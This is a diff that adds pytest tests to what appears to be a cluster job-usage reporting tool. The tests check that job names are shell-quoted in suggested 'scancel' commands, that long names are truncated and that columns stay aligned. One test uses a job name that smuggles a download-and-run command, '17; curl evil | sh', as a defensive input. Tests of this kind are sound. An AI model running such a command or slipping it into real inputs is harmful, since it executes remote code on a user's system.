@@ -59,6 +59,31 @@ def test_a_misbound_job_gets_every_directive_about_binding(tmp_path):
         assert word in text
 
 
+def test_a_job_name_in_advice_is_one_word_of_the_shell(tmp_path):
+    usage = usage_recorded(recorded(tmp_path / "r", (1200, [BUSY] * 4), (300, [SLEEPING] * 4)), "4711")
+    text = "\n".join(notes(replace(usage, job="17; curl evil | sh")))
+    assert "scancel '17; curl evil | sh'   after" in text
+    text = "\n".join(notes(replace(usage, job="*", cause="", means=np.array([SLEEPING] * 4))))
+    assert text.endswith("scancel '*'")
+
+
+def test_a_long_name_leaves_the_owner_of_the_job(tmp_path):
+    usage = usage_recorded(recorded(tmp_path / "r", (300, [BUSY] * 4)), "4711")
+    text = render(replace(usage, name="W" * 200))
+    assert text.splitlines()[0].startswith(f"job 4711 {'W' * 35}… of ada ")
+
+
+@pytest.mark.parametrize("length", [8, 28, 200])
+def test_every_thread_of_a_node_with_a_long_name_has_its_number(tmp_path, length):
+    usage = usage_recorded(recorded(tmp_path / "r", (300, [BUSY, *[SLEEPING] * 3])), "4711")
+    text = render(replace(usage, threads=tuple(("n" * length, 1020 + cpu) for cpu in range(4))))
+    shown = [line for line in text.splitlines() if line.startswith("nnn")]
+    assert [line.split()[0].rpartition("/")[2] for line in shown] == ["1020", "1021", "1022", "1023"]
+    assert length > 30 or shown[0].startswith("n" * length + "/")
+    assert max(map(len, text.splitlines())) <= 78
+    assert len({line.index("%") for line in text.splitlines() if line.endswith(" %")}) == 1
+
+
 def test_a_healthy_job_gets_no_advice(tmp_path):
     assert notes(usage_recorded(recorded(tmp_path / "r", (300, [BUSY] * 4)), "4711")) == []
 
